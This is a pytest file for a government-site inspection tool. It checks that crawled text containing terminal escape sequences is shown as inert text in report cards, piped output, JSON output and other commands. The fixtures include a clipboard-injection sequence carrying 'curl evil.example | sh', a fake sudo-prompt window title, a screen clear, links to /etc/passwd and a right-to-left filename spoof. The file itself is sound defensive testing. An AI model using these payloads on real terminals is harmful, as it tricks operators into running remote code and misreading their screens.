"""Crawled text reaches the operator's terminal as data (issue 24, case 4).

A hacked 博思-style county site whose navigation holds a link text ``[/]``, an OSC 52 clipboard
write, a window-title change, a clear-screen, a rich ``[link=file:///etc/passwd]`` tag and a
right-to-left override. Its stored inspection is re-scored by the real ``xunjian report card`` on
a pseudo-terminal (rich draws tables), and piped (one record per line).
"""

from __future__ import annotations

import io
import os
import pty
import select
import subprocess
import sys
from pathlib import Path

import pytest
from rich.console import Console

from xunjian.reports.text import card_lines, print_card
from xunjian.storage import open_store
from xunjian.inspection.card import card_for

ROOT = Path(__file__).resolve().parent.parent
CODE = "4107000031"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # clipboard: "curl evil.example | sh"
TITLE = "\x1b]0;sudo password required\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
ANCHOR = f"[/]{OSC52}{TITLE}{CLEAR}信息公开\u202etxt.exe"
DETAIL = "栏目「[link=file:///etc/passwd]点此查看[/link]」无法访问\x9b31m\x07\x0b"
HOSTILE = ("\x1b", "\x07", "\x9b", "\u202e", "\x0b")


def finding(fid: str, url: str, anchor: str, detail: str) -> dict:
    return {"id": fid, "site": CODE, "indicator": "availability.links", "kind": "broken_link",
            "rule": "home", "url": url, "page": "http://127.0.0.1:9/index.html",
            "detail": detail, "needs_review": False,
            "evidence": {"anchor_text": anchor, "error_type": "链接不可访问", "status": 404,
                         "status_text": "HTTP 404\x1b[8m"}}


@pytest.fixture
def stored(tmp_path: Path) -> dict:
    folder = tmp_path / "store"
    store = open_store(str(folder))
    store.upsert_site({"code": CODE, "name": "某县人民政府门户网站", "type": "门户网站",
                       "url": "http://127.0.0.1:9/"})
    done = store.create_inspection({"site": CODE, "as_of": "2026-11-20", "status": "done",
                                    "started_at": "2026-11-20T01:00:00+00:00",
                                    "checks": {"availability.links": True}})
    store.replace_findings(done, [
        {**finding("f-nav", "http://127.0.0.1:9/xxgk/\x1b]8;;file:///etc/passwd\x07x", ANCHOR,
                   f"首页链接「{ANCHOR}」不可用"), "inspection": done},
        {**finding("f-col", "http://127.0.0.1:9/col/\tcol1/\nindex.html",
                   "[link=file:///etc/passwd]政务\t公开\n栏目[/link]", DETAIL), "inspection": done},
    ])
    store.close()
    return {"folder": folder, "done": done}


def on_a_terminal(*args: str, timeout: float = 120) -> tuple[int, str]:
    """Run ``xunjian`` with stdout and stderr on a pseudo-terminal; (exit status, all output)."""
    leader, follower = pty.openpty()
    env = dict(os.environ, COLUMNS="160", LINES="50", TERM="xterm-256color")
    env.pop("NO_COLOR", None)
    proc = subprocess.Popen([sys.executable, "-m", "xunjian.cli", *args], cwd=ROOT, env=env,
                            stdin=subprocess.DEVNULL, stdout=follower, stderr=follower)
    os.close(follower)
    out = b""
    while True:
        ready, _, _ = select.select([leader], [], [], timeout)
        if not ready:
            proc.kill()
            break
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        out += chunk
    os.close(leader)
    return proc.wait(timeout=30), out.decode("utf-8", "replace")


def without_styles(text: str) -> str:
    """The terminal output with rich's own SGR colour codes (ESC [ … m) taken out."""
    import re

    return re.sub(r"\x1b\[[0-9;]*m", "", text)


def test_report_card_on_a_terminal_shows_hostile_text_as_text(stored) -> None:
    status, out = on_a_terminal("report", "card", CODE, "--inspection", stored["done"],
                                "--store", str(stored["folder"]))
    assert status == 0, out
    assert "MarkupError" not in out and "Traceback" not in out
    plain = without_styles(out)
    for code in HOSTILE:
        assert code not in plain, (code, plain)
    assert "[/]" in plain and "信息公开" in plain  # the link text is shown, as text
    assert "[link=file:///etc/" in plain  # the tag shown, not made a hyperlink
    assert "\x1b]8;" not in out  # no OSC 8 hyperlink anywhere


def test_rich_console_card_keeps_markup_as_text(stored) -> None:
    store = open_store(str(stored["folder"]))
    card = card_for(store, stored["done"], None)
    screen = io.StringIO()
    print_card(card, Console(file=screen, force_terminal=True, width=200),
               inspection=store.get_inspection(stored["done"]))
    plain = without_styles(screen.getvalue())
    for code in HOSTILE:
        assert code not in plain
    assert "[link=file:///etc/passwd]政务" in plain


def test_piped_card_keeps_one_record_per_line_without_controls(stored) -> None:
    out = subprocess.run([sys.executable, "-m", "xunjian.cli", "report", "card", CODE,
                          "--inspection", stored["done"], "--store", str(stored["folder"])],
                         cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    for code in HOSTILE:
        assert code not in out.stdout
    rows = [line.split("\t") for line in out.stdout.splitlines()]
    findings = [r for r in rows if r[0] == "finding"]
    header = next(r for r in rows if r[0] == "#finding")
    assert len(findings) == 2 and all(len(r) == len(header) for r in findings)
    by_id = {r[1]: r for r in findings}
    assert by_id["f-col"][3] == "[link=file:///etc/passwd]政务 公开 栏目[/link]"
    assert by_id["f-col"][4] == "http://127.0.0.1:9/col/ col1/ index.html"
    store = open_store(str(stored["folder"]))
    assert card_lines(card_for(store, stored["done"], None)) == out.stdout.splitlines()


def test_other_commands_print_crawled_text_as_text(stored) -> None:
    """Columns discovered in the site's navigation and a warning's detail (the site's words)."""
    store = open_store(str(stored["folder"]))
    store.insert("columns", {"id": "c1", "site": CODE, "source": "discovered", "position": 0,
                             "category": "信息公开", "type": "通知公告",
                             "name": f"[/]通知{OSC52}公告{TITLE}",
                             "url": f"http://127.0.0.1:9/tzgg/{CLEAR}"})
    store.insert("warnings", {"id": f"{CODE}:columns_stale:1", "site": CODE,
                              "kind": "columns_stale", "title": "栏目即将不更新",
                              "detail": f"栏目「{ANCHOR}」已 12 天未更新", "evidence": {},
                              "raised_at": "2026-11-20T01:00:00+00:00", "cleared_at": None,
                              "notified": {}})
    store.close()
    for args in (("registry", "discovered", CODE), ("warnings", CODE, "--no-check")):
        status, out = on_a_terminal(*args, "--store", str(stored["folder"]))
        assert status == 0, out
        for code in HOSTILE:
            assert code not in out, (args, code, out)
        assert "[/]" in out and ("通知公告" in out or "信息公开" in out)


def test_the_json_card_keeps_the_text_but_escapes_what_a_terminal_acts_on(stored) -> None:
    import json

    status, out = on_a_terminal("report", "card", CODE, "--inspection", stored["done"],
                                "--json", "-", "--store", str(stored["folder"]))
    assert status == 0, out
    for code in HOSTILE:
        assert code not in out
    card = json.loads(out[out.index("{"):])
    anchors = {f["id"]: f["evidence"]["anchor_text"] for f in card["findings"]}
    assert anchors["f-nav"] == ANCHOR  # the data itself is kept whole
